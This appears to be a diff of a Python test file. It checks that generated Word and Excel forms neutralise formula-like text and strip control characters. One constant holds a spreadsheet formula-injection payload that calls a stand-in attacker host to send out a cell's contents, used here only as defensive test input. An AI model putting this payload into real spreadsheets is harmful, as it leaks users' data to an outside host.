@@ -7,12 +7,13 @@ from datetime import date
 
 import pytest
 from docx import Document
-from openpyxl import Workbook, load_workbook
+from openpyxl import Workbook
 
 from liaison.documents.cells import clean_text, safe_text, write_cell
 from liaison.documents.form1 import Form1, Form1Constituent, form1_docx, form1_xlsx
 from liaison.documents.form2 import Form2, form2_docx, form2_xlsx
 from liaison.documents.tables import xlsx_table
+from tests.workbooks import read_workbook
 
 EVIL = '=HYPERLINK("http://evil.example/"&K3,"详情")'
 MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
@@ -50,7 +51,7 @@ def test_text_that_looks_like_a_formula_is_written_as_neutralised_text(name):
     data = RENDERERS[name](EVIL)
     xml = sheet_xml(data)
     assert re.search(r"<(\w+:)?f[ >/]", xml) is None  # no formula element at all
-    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    sheet = read_workbook(data).worksheets[0]
     found = [c for r in sheet.iter_rows() for c in r if "evil.example" in str(c.value or "")]
     assert [(c.value, c.data_type) for c in found] == [("'" + EVIL, "s")]
 
@@ -70,16 +71,16 @@ def test_every_text_cell_is_a_plain_string(value, written):
 def test_control_characters_are_removed_from_every_document():
     assert clean_text("职员\x01\x00\x0b 甲\t乙\n") == "职员 甲\t乙\n"
     bad = "主任\x01"
-    book = load_workbook(io.BytesIO(member_list("某中学\x02", post="职员\x01")))
+    book = read_workbook(member_list("某中学\x02", post="职员\x01"))
     assert [c.value for c in book.worksheets[0][3]] == ["张伟", "某中学", "职员", 2]
     form = Form1("张\x03伟", "中共", (Form1Constituent("陈群众", "群众", bad, "139"),))
     document = Document(io.BytesIO(form1_docx([form])))
     assert document.paragraphs[2].text == "委员姓名：张伟\t所在界别：中共"
     assert document.tables[0].rows[1].cells[3].text == "主任"
-    book = load_workbook(io.BytesIO(form1_xlsx([form])))
+    book = read_workbook(form1_xlsx([form]))
     assert (book.sheetnames, book["张伟"]["D5"].value) == (["张伟"], "主任")
     filled = form2(opinions="建议\x01修路", remarks="无\x1f")
     document = Document(io.BytesIO(form2_docx([filled])))
     assert [document.tables[0].rows[r].cells[1].text for r in (6, 7)] == ["建议修路", "无"]
-    sheet = load_workbook(io.BytesIO(form2_xlsx([filled]))).worksheets[0]
+    sheet = read_workbook(form2_xlsx([filled])).worksheets[0]
     assert [sheet["B10"].value, sheet["B11"].value] == ["建议修路", "无"]
